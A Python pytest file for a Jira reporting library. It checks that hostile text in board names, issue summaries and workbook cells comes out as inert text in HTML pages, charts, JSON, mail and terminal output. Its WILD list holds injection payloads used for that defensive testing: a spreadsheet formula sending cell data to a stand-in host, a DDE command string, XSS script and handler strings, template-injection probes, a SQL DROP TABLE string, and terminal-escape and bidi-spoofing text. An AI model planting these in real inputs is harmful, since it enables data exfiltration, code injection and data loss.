"""Whatever anyone types anywhere is text everywhere: on the page, in charts, notebook, JSON, mail and terminal."""

import copy
import json
import re
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from squadlib import params as site_params
from squadlib import snapshots
from squadlib.engine.pen import VARIABLE, svg
from squadlib.records import BoardRecords
from squadlib.reports.page.emitted import FACTS_KIND, emitted
from squadlib.reports.page.packed import KIND as PACKED
from squadlib.reports.page.packed import unpacked
from tests import report_fixture
from tests.mail_reports import TO, mailed_site
from tests.page_elements import Elements
from tests.report_fixture import SITE, board_records, workbook_records
from tests.report_kinds import KINDS, Kind
from tests.report_pages import NOTEBOOKS, SPRINT_REPORT, executed, page
from tests.sites import workplace

WILD = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u202c \u2067abc",
    "שלום עולם \u200f(1)",
    "👩‍👩‍👧‍👦 🏳️‍🌈 é\u0301\u0302\u0303",
    "${7*7} #{7*7} {{7*7}} {%raw%} <%= 7*7 %> $$x^2$$ \\(y\\)",
    "[open](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example>",
    '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
    "</script></style></textarea><script>alert(1)</script><!--",
    "<a href=\"javascript:alert(1)\">x</a> <iframe src='//evil.example'>",
    "\x1b[2J\x1b]0;title\x07 bell",
    "javascript:alert(document.domain)",
    "https://evil.example/login",
    "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "null",
    "'; DROP TABLE issues; --",
]
LONG = "long title " * 910 + "end"
"""10,000 characters and some."""
KIND = "wild"


def wild() -> BoardRecords:
    """Return the usual board with every text another of these, told apart by a number before it."""
    board = board_records()
    texts = cycle(WILD)
    board["board"]["name"], board["site"]["title"] = WILD[0], WILD[10]
    board["board"]["estimation"]["field_name"] = WILD[5]
    for things in (board["board"]["columns"], board["people"], board["sprints"], board["statuses"], board["versions"]):
        for place, thing in enumerate(things):
            thing["name"] = f"{place} {next(texts)}"  # type: ignore[index]
    for sprint in board["sprints"]:
        sprint["goal"] = next(texts)
    for issue in board["issues"]:
        issue["type"], issue["priority"] = WILD[issue["histories"] % 3], WILD[3]
        issue["summary"], issue["labels"] = next(texts), [next(texts)]
    board["issues"][-1]["summary"] = board["sprints"][-1]["goal"] = LONG
    changes = board["changes"]
    for side in ("old_text", "new_text"):
        changes[side] = [text and next(texts) for text in changes[side]]  # type: ignore[literal-required]
    return board


def wild_book() -> Any:
    """Return the plan with every name another of these, one of them very long."""
    book = copy.deepcopy(workbook_records())
    texts = cycle(WILD)
    book["title"] = WILD[8]
    for row in book["tabs"]["Milestones"][1:]:
        row[0], row[4] = next(texts), next(texts)
    book["tabs"]["Milestones"][2][0] = LONG
    for row in book["tabs"]["Projects"][1:]:
        row[3], row[4] = next(texts), LONG
    for row in (*book["tabs"]["Methods"][1:], *book["tabs"]["Measures"][1:]):
        row[1] = next(texts)
    return book


@pytest.fixture(autouse=True)
def _a_wild_site(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the makers of pages know this kind of site, and its plan."""
    monkeypatch.setitem(KINDS, KIND, Kind(wild, name=WILD[7]))
    monkeypatch.setattr(report_fixture, "workbook_records", wild_book)


of_every_report = pytest.mark.parametrize(
    "notebook",
    [
        pytest.param(one, marks=[] if one == SPRINT_REPORT else [pytest.mark.slow])
        for one in NOTEBOOKS
        if one != "health_report"  # no sprint runs here; test_kinds has one that does
    ],
)


def texts_of(value: Any) -> Iterator[str]:
    """Yield every text in plain data."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for one in value.values() if isinstance(value, dict) else value:
            yield from texts_of(one)


@of_every_report
def test_a_page_has_no_element_and_no_link_but_its_own(notebook: str) -> None:
    """No image, frame, form or handler; links lead into the page, to the configured Jira, and nowhere else."""
    html = page(KIND, notebook)
    elements = Elements(html)
    assert html.count("</script>") == len(elements.every("script"))
    assert not {"img", "iframe", "form", "object", "embed", "base", "textarea", "i", "em"} & {
        t for t, _ in elements.tags
    }
    attributes = {name for _, found in elements.tags for name in found}
    assert not {name for name in attributes if name.startswith("on")}
    assert not attributes & {"srcdoc", "srcset", "action", "formaction"}
    targets = {str(found[name]) for _, found in elements.tags for name in ("href", "src") if name in found}
    assert {one for one in targets if not one.startswith(("#", f"{SITE}/browse/"))} <= {"../../index.html"}
    assert len(html.encode()) < 1_500_000


@of_every_report
def test_the_page_lets_its_own_scripts_run_and_nothing_else(notebook: str) -> None:
    """Its policy names hashes; no host, no inline handler, no evaluation, nothing loaded."""
    html = page(KIND, notebook)
    (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";") if rule.strip())
    assert rules["default-src"] == "'none'"
    assert all(one.startswith("'sha256-") for one in rules.get("script-src", "'sha256-").split())
    assert "evil.example" not in policy
    assert "unsafe-eval" not in policy
    assert "https:" not in policy
    assert rules["base-uri"] == rules["form-action"] == "'none'"


@of_every_report
def test_facts_and_charts_say_what_was_typed(notebook: str) -> None:
    """In JSON each text is as it was; a live chart's spec has it as data, and no address to load anything from."""
    facts = emitted(executed(KIND, notebook), FACTS_KIND)
    told = "\n".join(texts_of(json.loads(json.dumps(facts, allow_nan=False))))
    assert sum(text in told for text in WILD) >= 1
    for packed in re.findall(rf'<script type="{PACKED}">(.*?)</script>', page(KIND, notebook), re.DOTALL):
        spec = json.loads(unpacked(packed))
        assert "url" not in spec.get("data", {})
        assert not re.search(r'"(href|url)"\s*:\s*"', unpacked(packed))


def test_titles_are_shown_as_they_were_typed() -> None:
    """Every summary of the sprint's issues reads on the page as it does in Jira, blanks and controls aside."""
    shown = " ".join("".join(Elements(page(KIND)).text).split())
    facts = emitted(executed(KIND), FACTS_KIND)
    for issue in facts["issues"]:
        wanted = " ".join(issue["summary"].split())[:60]
        assert wanted.replace("\x1b", "") in shown.replace("\x1b", ""), issue["key"]


def test_a_mail_shows_it_as_text(tmp_path: Path) -> None:
    """No element and no link out of it; each header is one line."""
    site = mailed_site(tmp_path, kind=KIND)
    site.configure(squad=TO)
    folder = site.send(is_preview=True)
    pages = [path.read_text(encoding="utf-8") for path in folder.parent.rglob("*.html")]
    assert pages
    for html in pages:
        elements = Elements(html)
        assert not {"script", "iframe", "svg", "form"} & {tag for tag, _ in elements.tags}
        assert not [name for _, found in elements.tags for name in found if name.startswith("on")]
        targets = [str(found["href"]) for _, found in elements.tags if "href" in found]
        assert not [one for one in targets if "evil.example" in one or "javascript" in one.lower()]


def test_half_a_letter_from_jira_does_not_stop_a_report(tmp_path: Path) -> None:
    """JSON can carry a lone surrogate, which no file can: it is kept as a question mark."""
    board = board_records()
    board["issues"][0]["summary"] = json.loads('"half \\ud83d letter"')
    kept = report_fixture.site(tmp_path, board)
    state = site_params.load(tmp_path / "params", "client").state
    assert snapshots.load(state, kept.parts["board-11"])["issues"][0]["summary"] == "half ? letter"


def test_a_terminal_is_told_no_command(tmp_path: Path) -> None:
    """What stands in params, in the plan or in a name comes without what moves a cursor or turns a line round."""
    place = workplace(tmp_path, url="http://127.0.0.1:9")
    squads = tmp_path / "params" / "squads"
    (squads / "client.yaml").write_text(json.dumps({"name": WILD[10], "board": "\u202e\x1b[2J"}), encoding="utf-8")
    done = place.run("sync", "client\x1b[2J\u202e")
    assert done.returncode == 2
    second = place.run("sync", "client")
    assert second.returncode == 2
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", done.stderr + second.stderr)


def test_a_label_that_is_shortened_within_an_emoji_is_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """With a box in its place, in the drawing alone; a spec that cannot be drawn for another reason is refused."""
    monkeypatch.delenv(VARIABLE, raising=False)
    axis = {"labelLimit": 60, "labelAngle": 0}
    for before in range(6):
        name = "a" * before + "👩‍👩‍👧‍👦 🏳️‍🌈" * 9
        spec = {
            "data": {"values": [{"name": name, "points": 1}]},
            "mark": "bar",
            "encoding": {"y": {"field": "name", "axis": axis}, "x": {"field": "points", "type": "quantitative"}},
        }
        assert svg(json.dumps(spec)).startswith("<svg")
        assert svg(json.dumps(spec, ensure_ascii=False)).startswith("<svg")
    with pytest.raises(ValueError, match="conversion failed"):
        svg('{"mark": "🏳"}')
